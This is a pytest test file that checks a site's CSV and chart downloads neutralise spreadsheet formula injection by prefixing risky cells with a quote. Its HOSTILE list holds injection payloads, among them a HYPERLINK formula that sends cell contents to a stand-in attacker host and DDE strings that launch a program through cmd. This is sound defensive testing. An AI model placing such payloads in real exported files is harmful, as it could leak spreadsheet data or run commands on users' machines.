"""No CSV the site writes can start a spreadsheet formula: a text cell beginning with = + - @, tab, carriage return
(or their full-width forms) gets a leading single quote, numbers stay numbers, and the JSON keeps the exact text."""

from __future__ import annotations

import csv
import io
import json

import pytest

from scripts.records.validate import validate
from scripts.site.charts.spec import ChartSpec, Column
from scripts.site.charts.specs import chart_specs
from scripts.site.downloads import render_downloads

from .conftest import TODAY

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("title", HOSTILE)
def test_a_formula_in_a_title_is_neutralised_in_every_csv(data_dir, title):
    path = data_dir / "statistics/example-count-2012.yaml"
    path.write_text(path.read_text().replace("title: Example agreements in 2012", f"title: {json.dumps(title)}"))
    event = data_dir / "events/2014-11-20-example-memo.yaml"
    event.write_text(event.read_text().replace("title: The example memo ends the example program",
                                               f"title: {json.dumps(title)}"))
    dataset = validate(data_dir, today=TODAY)
    files, _ = render_downloads(dataset)
    written = "'" + title.replace("\r", "\n")  # a carriage return in a cell is written as a line feed
    [statistic] = _rows(files["downloads/statistics.csv"])
    assert statistic["title"] == written
    assert statistic["value"] == "1234"  # a number, unquoted
    assert {e["title"] for e in _rows(files["downloads/events.csv"])} >= {written}
    assert json.loads(files["downloads/statistics.json"])[0]["title"] == title  # JSON keeps the exact value

    chart_cells = [cell for spec in chart_specs(dataset).values() for row in _rows(spec.csv_text())
                   for cell in row.values()]
    assert written in chart_cells
    assert not [cell for cell in chart_cells if cell and cell[0] in "=+-@\t\r＝" and not cell.lstrip("-").replace(".", "")
                .isdigit()]


def test_negative_numbers_stay_numbers_and_text_that_looks_like_one_does_not():
    spec = ChartSpec(id="x", kind="comparison", title="t", summary="s", details="d", caption="c",
                     columns=(Column("label", "Label"), Column("value", "Value", "number")),
                     rows=(("-5 detainers", -5), ("=1", -2.5), ("plain", 7), (None, 0)), sources=(),
                     as_of="2026-11-01", size=(6.0, 3.0))
    assert spec.csv_text() == "label,value\n'-5 detainers,-5\n'=1,-2.5\nplain,7\n,0\n"
